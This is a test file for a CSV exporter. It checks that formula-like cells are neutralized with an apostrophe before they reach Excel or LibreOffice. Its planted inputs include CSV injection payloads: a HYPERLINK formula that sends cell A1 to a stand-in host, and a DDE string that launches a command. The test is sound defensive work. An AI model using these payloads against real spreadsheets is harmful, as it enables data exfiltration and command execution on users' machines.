/**
 * CSV for spreadsheets: a text cell that Excel or LibreOffice would run as a formula is neutralized
 * (leading apostrophe), codes stay text, files end with a newline. Rows carrying every dangerous
 * start are stored, both exports written, and every CSV file is opened and checked cell by cell.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseString } from "fast-csv";
import { openDb, type DB } from "../src/store/db.js";
import { importPaths } from "../src/pipeline/import.js";
import { storeFindings } from "../src/analyze/checks.js";
import { exportAll } from "../src/report/export.js";
import { csvCell } from "../src/report/csv-cell.js";

const ATTACKS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];

let dir: string;
let db: DB;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "hva-okr-csv-"));
  db = openDb(join(dir, "c.sqlite"));
  const s = await importPaths(db, ["fixtures/seeds"]);
  expect(s.failed).toBe(0);
  storeFindings(db);
  // Hostile texts in the cells a source document controls: one per text column of each export.
  const kr = db.prepare("SELECT id FROM v_key_results ORDER BY id LIMIT ?").all(ATTACKS.length) as { id: number }[];
  kr.forEach((r, i) => db.prepare("UPDATE key_results SET avaintulos = ?, toteuma = ?, tulosalue = ? WHERE id = ?").run(ATTACKS[i], ATTACKS[(i + 1) % ATTACKS.length], ATTACKS[(i + 2) % ATTACKS.length], r.id));
  const goals = db.prepare("SELECT id FROM v_goals ORDER BY id LIMIT ?").all(ATTACKS.length) as { id: number }[];
  goals.forEach((g, i) => db.prepare("UPDATE goals SET text = ?, owner = ? WHERE id = ?").run(ATTACKS[i], ATTACKS[(i + 3) % ATTACKS.length], g.id));
  db.prepare("UPDATE findings SET message = ? WHERE id = (SELECT min(id) FROM findings)").run(ATTACKS[0]);
}, 60_000);
afterAll(() => {
  db.close();
  rmSync(dir, { recursive: true, force: true });
});

function parse(text: string, delimiter: string): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString(text, { delimiter })
      .on("data", (r: string[]) => rows.push(r))
      .on("end", () => resolve(rows))
      .on("error", reject);
  });
}

/** A number as the exporter writes it (decimal point, or comma for Finnish Excel). */
const NUMBER = /^-?\d+(?:[.,]\d+)?(?:e[+-]?\d+)?$/i;
/** The only formula the exporter writes: a constant text of digits and separators (a code kept as text). */
const TEXT_CODE = /^="[\d./-]+"$/;

describe("CSV for spreadsheets", () => {
  for (const excelFi of [true, false]) {
    it(`opens every CSV file (${excelFi ? "Finnish Excel" : "plain"}) and finds no cell a spreadsheet would run`, async () => {
      const out = join(dir, excelFi ? "fi" : "plain");
      await exportAll(db, { out, format: "csv", excelFi });
      const files = readdirSync(out).filter((f) => f.endsWith(".csv"));
      expect(files.length).toBeGreaterThanOrEqual(7);
      let hostile = 0;
      for (const f of files) {
        const text = readFileSync(join(out, f), "utf8");
        expect(text.endsWith("\n"), f).toBe(true);
        const rows = await parse(excelFi ? text.slice(1) : text, excelFi ? ";" : ",");
        for (const row of rows) {
          for (const c of row) {
            if (/^[=+\-@\t\r]/.test(c)) expect(NUMBER.test(c) || TEXT_CODE.test(c), `${f}: ${JSON.stringify(c)}`).toBe(true);
            if (ATTACKS.some((a) => c === `'${a}`)) hostile++;
          }
        }
      }
      // Every planted text came out, neutralized (not dropped).
      expect(hostile).toBeGreaterThanOrEqual(ATTACKS.length * 2);
    });
  }

  it("keeps codes such as 1.1 as text for Finnish Excel, numbers as numbers, negative numbers unprefixed", () => {
    expect(csvCell("1.1", true)).toBe('="1.1"');
    expect(csvCell("2.3.1", true)).toBe('="2.3.1"');
    expect(csvCell("1.1", false)).toBe("1.1");
    expect(csvCell(-2.5, true)).toBe("-2,5");
    expect(csvCell(-2.5, false)).toBe(-2.5);
    expect(csvCell("-2,5 %", true)).toBe("'-2,5 %");
    expect(csvCell("8,24", true)).toBe("8,24");
    expect(csvCell(null, true)).toBe("");
  });

  it("writes the goal codes of the bundled strategy as text for Finnish Excel", async () => {
    const out = join(dir, "codes");
    await exportAll(db, { out, format: "csv", excelFi: true });
    const rows = await parse(readFileSync(join(out, "goals.csv"), "utf8").slice(1), ";");
    const code = rows[0]!.indexOf("code");
    const codes = rows.slice(1).map((r) => r[code]).filter((c) => c);
    expect(codes.length).toBeGreaterThan(0);
    for (const c of codes) expect(c).toMatch(TEXT_CODE);
  });
});
